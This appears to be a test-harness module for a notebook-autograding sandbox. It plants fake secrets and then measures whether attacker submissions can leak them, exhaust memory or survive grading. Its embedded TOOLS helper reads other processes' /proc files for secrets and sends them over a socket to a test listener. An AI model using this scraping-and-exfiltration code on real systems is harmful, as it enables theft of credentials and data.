"""A course with attackers and honest students in it, the machine around it, and what became of both."""

import contextlib
import json
import os
import secrets
import shutil
import signal
import socket
import sqlite3
import subprocess
import sys
import threading
import time
from pathlib import Path
from unittest.mock import patch

import nbgrader
from nbformat.v4 import new_code_cell

import casebook
from tests.autograding import tiny
from tests.autograding.tiny import _graded
from tests.grading.kit import BIN

SECRETS = ("gradebook", "model", "hidden", "other", "environment", "argument", "home")
HONEST = {"numbers": "numbers = [1, 2, 3]",
          "chosen": "from casebook.roles import ROLES as known\nchosen = [role.id for role in known]"}
STOCK_CONFIG = """\
c = get_config()
c.CourseDirectory.course_id = "tiny-course"
c.CourseDirectory.db_url = "sqlite:///gradebook.db"
c.OverwriteCells.add_missing_cells = True
c.Execute.timeout = 5
c.Execute.iopub_timeout = 10
"""
MB = 1 << 20
MOST = 300 * MB             # what any attack may cost the grader
BUDGET = 60                 # seconds that are waited for stock where an attack keeps it for ever
#: What every attacker has at hand: where things are, and ways to bring home what was found.
TOOLS = r'''
import os, re, signal, socket, sqlite3, subprocess, sys, time
def take(data):
    data = data if isinstance(data, bytes) else str(data).encode(errors="replace")
    found = b" ".join(sorted(set(re.findall(rb"secret-[a-z]+-[0-9a-f]{16}", data)))).decode()
    print(found)
    tell(found)
    try:
        with open(f"{LOOT}/{ME}.txt", "a") as file:
            file.write(found)
    except OSError:
        pass
def tell(text, host="127.0.0.1", port=None):
    try:
        with socket.create_connection((host, port or TCP), timeout=1) as line:
            line.sendall(f"{ME} {text}\n".encode())
    except OSError:
        pass
def each(pattern):
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) != os.getpid():
            try:
                with open(f"/proc/{pid}/{pattern}", "rb") as file:
                    yield int(pid), file.read()
            except OSError:
                pass
'''


def source(secret):
    """The small course with secrets, and with two tests that rest on modules."""
    book = tiny_source()
    book.cells += [
        new_code_cell(f"numbers = ...\n### BEGIN SOLUTION\nnumbers = [1, 2, 3]  # {secret['model']}\n### END SOLUTION", metadata=_graded("numbers", solution=True)),
        new_code_cell("import numpy\nassert numpy.mean(numbers) == 2\n### BEGIN HIDDEN TESTS\n"
                      f"assert numbers[0] == 1  # {secret['hidden']}\n### END HIDDEN TESTS", metadata=_graded("numbers_test", 2.0)),
        new_code_cell("chosen = ...\n### BEGIN SOLUTION\nchosen = []\n### END SOLUTION", metadata=_graded("chosen", solution=True)),
        new_code_cell("from casebook.roles import ROLES\nassert len(chosen) and {role.id for role in ROLES} == set(chosen)",
                      metadata=_graded("chosen_test", 2.0)),
    ]
    return book


tiny_source = tiny.source


def prepare(base):
    """A course to copy from: released, with secrets where an instructor has them."""
    secret = {kind: f"secret-{kind}-{secrets.token_hex(8)}" for kind in SECRETS}
    with patch.object(tiny, "source", lambda: source(secret)):
        course = tiny.make(base / "template")
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{course}/gradebook.db", "tiny-course") as book:
        book.update_or_create_student("zz-registered", first_name=secret["gradebook"])
    return course, secret


def answered(course, code=(), **kwargs):
    """A notebook with every answer right but those given, and cells of the attacker's own."""
    mine = {**HONEST, **{key: kwargs.pop(key) for key in list(kwargs) if key in HONEST}}
    book = tiny.answered(course, **kwargs)
    for cell in book["cells"]:
        id = cell["metadata"].get("nbgrader", {}).get("grade_id")
        if id in mine:
            cell["source"] = mine[id]
    at = 1
    for text in code:
        book["cells"].insert(at, json.loads(json.dumps(new_code_cell(text))))
        at += 1
    return book


class Listener:
    """Counts who comes; of the internet, or a Unix socket."""

    def __init__(self, family, kind, address):
        self.socket = socket.socket(family, kind)
        self.socket.bind(address)
        self.stream = kind == socket.SOCK_STREAM
        if self.stream:
            self.socket.listen(50)
        self.address, self.heard = self.socket.getsockname(), []
        threading.Thread(target=self._listen, daemon=True).start()

    def _listen(self):
        while True:
            try:
                if self.stream:
                    line, _ = self.socket.accept()
                    with line:
                        line.settimeout(2)
                        self.heard.append(line.recv(10_000))
                else:
                    self.heard.append(self.socket.recv(10_000))
            except TimeoutError:
                self.heard.append(b"")
            except OSError:
                return

    def close(self):
        with contextlib.suppress(OSError):
            self.socket.shutdown(socket.SHUT_RDWR)
        self.socket.close()


def outside_address():
    """An address of this machine that is not loopback, or None; nothing is sent."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        try:
            one.connect(("192.0.2.1", 9))
        except OSError:
            return None
        found = one.getsockname()[0]
    return None if found.startswith("127.") else found


class World:
    """One copy of the course, graded once, and everything an attack could reach from it."""

    def __init__(self, base, name, template, secret, attacks, *, stock=False, quiet=False):
        self.base, self.stock, self.quiet, self.secret, self.attacks = base / name, stock, quiet, secret, list(attacks)
        self.course, self.home, self.loot = (self.base / one for one in ("course", "home", "loot"))
        self.mark = f"mark{secrets.token_hex(6)}"
        self.base.mkdir(mode=0o755)
        shutil.copytree(template, self.course)
        self.home.mkdir()
        (self.home / ".ssh").mkdir()
        (self.home / ".ssh/id_ed25519").write_text(secret["home"])
        self.loot.mkdir()
        # Whoever the attacker is on this machine: it is not for want of rights that he fails.
        self.loot.chmod(0o777)
        os.chmod(self.course / "gradebook.db", 0o666)
        self.tcp = Listener(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", 0))
        self.udp = Listener(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", 0))
        self.abstract = Listener(socket.AF_UNIX, socket.SOCK_STREAM, f"\0{self.mark}")
        self.unix = Listener(socket.AF_UNIX, socket.SOCK_STREAM, str(self.loot / "s"))
        os.chmod(self.loot / "s", 0o777)
        self.address = outside_address()
        self.outside = self.address and Listener(socket.AF_INET, socket.SOCK_STREAM, (self.address, 0))
        # Another program of the instructor's, with a password among its arguments.
        self.victim = subprocess.Popen([sys.executable, "-S", "-c", "import time; time.sleep(900)", secret["argument"]])
        self.site, self.package = Path(nbgrader.__file__).parents[1], Path(casebook.__file__).parent
        self._config()
        self.students, self.honest = {}, []
        self.peak = self.idle = 0
        self.most, self.held = {}, {}
        self.code, self.out, self.err, self.late = None, "", "", False
        self._hand_in()

    def _config(self):
        path = self.course / "nbgrader_config.py"
        if self.stock:
            path.write_text(STOCK_CONFIG)
        else:
            path.write_text(path.read_text() + "c.Execute.timeout = 5\nc.Sandbox.memory_mb = 800\nc.Sandbox.address_mb = 2048\n"
                            "c.Sandbox.wall_seconds = 15\nc.Sandbox.folder_mb = 64\nc.Sandbox.scratch_mb = 16\n")

    def _hand_in(self):
        for number, attack in enumerate(self.attacks):
            if number % 6 == 0:
                self._honest(f"s{number:02d}-a-honest")
            if self.quiet:
                continue
            self.students[attack.id] = student = f"s{number:02d}-{attack.id}"
            book = answered(self.course, [self._known(attack, student), *attack.cells], **attack.answers)
            folder = tiny.hand_in(self.course, student, attack.book(book) if attack.book else book)
            if attack.files:
                attack.files(self, folder)
        self._honest("s99-honest")

    def _honest(self, student):
        tiny.hand_in(self.course, student, answered(self.course, memo=f"Mine: {self.secret['other']}"), **{"bait.txt": "here"})
        self.honest.append(student)

    def _known(self, attack, student):
        known = {"COURSE": str(self.course), "HOME": str(self.home), "LOOT": str(self.loot), "SITE": str(self.site),
                 "PACKAGE": str(self.package), "TCP": self.tcp.address[1], "UDP": self.udp.address[1],
                 "ABSTRACT": f"\0{self.mark}", "UNIX": str(self.loot / "s"), "HOST": self.address,
                 "OUTSIDE": self.outside.address[1] if self.outside else 0, "VICTIM": self.victim.pid,
                 "PROCESSES": os.readlink("/proc/self/ns/pid"), "ME": self.me(attack.id), "STUDENT": student,
                 "OTHER": self.honest[0], "BOUNDED": self.stock}
        return "\n".join(f"{name} = {value!r}" for name, value in known.items()) + TOOLS

    def me(self, id):
        """What an attack puts into names of files and processes, to be found by."""
        return f"{self.mark}-{id}-"

    # ---- the run -------------------------------------------------------------------------------

    def run(self, limit=BUDGET):
        """Grade, as an instructor does; at most for so long."""
        command = [str(BIN / "nbgrader"), "autograde", tiny.NAME] if self.stock else [
            sys.executable, "-m", "casebook", "course", "grade", tiny.NAME, "--course", ".", "--workers", "2", "--json"]
        env = {**os.environ, "HOME": str(self.home), "COURSE_PASSWORD": self.secret["environment"],
               "PATH": f"{BIN}{os.pathsep}{os.environ['PATH']}"}
        with open(self.base / "out", "w+") as out, open(self.base / "err", "w+") as err:
            began, self.before = time.monotonic(), frozenset(os.listdir("/proc"))
            process = subprocess.Popen(command, cwd=self.course, env=env, stdout=out, stderr=err, start_new_session=True)
            while process.poll() is None:
                self._look(process.pid)
                if time.monotonic() - began > limit:
                    self.late = True
                    process.kill()
                time.sleep(0.1)
            self.code, self.seconds = process.returncode, time.monotonic() - began
        self.out, self.err = ((self.base / name).read_text(errors="replace") for name in ("out", "err"))
        time.sleep(0.3)         # what is dying is dead by then
        self.left = {id: self.alive(id) for id in self.students}
        return self

    def _look(self, main):
        """How much the grader takes, and how much each attack."""
        parents, taken = {}, {}
        marks = {id: self.me(id).encode() for id in self.students}
        found = list(processes(self.before))
        for pid, parent, size, command in found:
            parents.setdefault(parent, []).append(pid)
            for id, mark in marks.items():
                if mark in command:
                    taken.setdefault(id, []).append(size)
        grader = [main]
        if not self.stock:      # its workers, and what their kernels are forked from; kernels are not
            # Forks of the warm parent that wait outside of a box share its memory, which counts once.
            warm = {pid for pid, _, _, command in found if b"warm.parent" in command}
            grader += [child for worker in parents.get(main, ()) for child in (worker, *parents.get(worker, ())) if worker not in warm or child == worker]
        now = sum(map(highest, grader))
        self.peak = max(self.peak, now)
        for id, sizes in taken.items():
            self.most[id] = max(self.most.get(id, 0), len(sizes))
        for id in self.students:
            sizes = taken.get(id, ())
            began, longest = self.held.get(id, (None, 0.0))
            at = time.monotonic()
            began = (began or at) if sum(sizes) > 900 * MB else None
            self.held[id] = (began, max(longest, at - began if began else 0.0))

    def close(self):
        """End what has survived, by its number, and take away what was left outside."""
        for pid, _, _, command in processes():
            if self.mark.encode() in command:
                with contextlib.suppress(ProcessLookupError):
                    os.kill(pid, signal.SIGKILL)
        self.victim.kill()
        self.victim.wait()
        for one in (self.tcp, self.udp, self.abstract, self.unix, self.outside):
            if one:
                one.close()
        for path in self._outside():
            path.unlink()

    # ---- what became of it ---------------------------------------------------------------------

    def _outside(self):
        """Files of attackers where a grader's files are, or everybody's."""
        return [path for folder in (self.site, self.package, Path("/tmp"), Path("/dev/shm"), Path.home())
                for path in folder.glob(f"*{self.mark}*")]

    def written(self, id):
        """Files with the attack's name that stand outside its own folder."""
        inside = [path for path in self.base.rglob(f"*{self.me(id)}*") if "submitted" not in path.parts]
        own = self.course / "autograded" / self.students[id]
        return [path for path in [*inside, *(one for one in self._outside() if self.me(id) in one.name)]
                if not path.is_relative_to(own)]

    def bytes_on_disk(self, id):
        """What the attack has written anywhere on this machine."""
        own = list((self.course / "autograded" / self.students[id]).rglob(f"*{self.me(id)}*"))
        return sum(path.stat().st_size for path in [*self.written(id), *own])

    def alive(self, id):
        """Processes with the attack's name."""
        return [pid for pid, _, _, command in processes() if self.me(id).encode() in command]

    def got(self, id, kind):
        """Did a secret come out: on the network, in a place for everybody, or in what the student gets back?"""
        token = self.secret[kind].encode()
        heard = b"".join(line for one in (self.tcp, self.outside) if one for line in one.heard if self.me(id).encode() in line)
        loot = b"".join(path.read_bytes() for path in self.loot.glob(f"{self.me(id)}*"))
        return token in heard + loot + self._returned(self.students[id])

    def _returned(self, student):
        """Outputs of the graded notebooks, and the other files that stand beside them."""
        found = []
        for path in (self.course / "autograded" / student).rglob("*"):
            if path.is_file() and path.suffix != ".ipynb":
                found.append(path.read_bytes())
            elif path.is_file():
                cells = json.loads(path.read_text(encoding="utf-8"))["cells"]
                found.append(json.dumps([cell.get("outputs", []) for cell in cells]).encode())
        return b"\n".join(found)

    def graded(self, student):
        """Is the submission in its place, graded?"""
        return self.notebook(student).is_file()

    def notebook(self, student):
        """The graded notebook."""
        return self.course / "autograded" / student / tiny.NAME / f"{tiny.NAME}.ipynb"

    def scores(self, student):
        """Cell to the points in the gradebook: by the test, and by hand."""
        with sqlite3.connect(f"file:{self.course / 'gradebook.db'}?mode=ro", uri=True) as db:
            return {name: (auto, hand) for name, auto, hand in db.execute(
                "SELECT c.name, g.auto_score, g.manual_score FROM grade g JOIN submitted_notebook n ON g.notebook_id = n.id "
                "JOIN submitted_assignment a ON n.assignment_id = a.id JOIN base_cell c ON g.cell_id = c.id WHERE a.student_id = ?",
                (student,))}

    def stopped(self):
        """Was the class kept from being graded?"""
        return not all(self.graded(student) for student in self.honest)

    def expensive(self):
        """Did the grader take much more memory than for a class without attackers?"""
        return self.peak - self.idle > MOST


def highest(pid):
    """The most memory that a living process has had; a short peak is not missed."""
    with contextlib.suppress(OSError):
        for line in Path(f"/proc/{pid}/status").read_text().splitlines():
            if line.startswith("VmHWM:"):
                return int(line.split()[1]) * 1024
    return 0


def processes(but=frozenset()):
    """Number, parent, bytes in memory and command line of everything that lives here."""
    page = os.sysconf("SC_PAGESIZE")
    for name in os.listdir("/proc"):
        if name.isdigit() and name not in but:
            try:
                stat = Path(f"/proc/{name}/stat").read_text()
                fields = stat.rpartition(")")[2].split()
                if fields[0] in "ZX":
                    continue
                yield int(name), int(fields[1]), int(fields[21]) * page, Path(f"/proc/{name}/cmdline").read_bytes()
            except OSError:
                continue
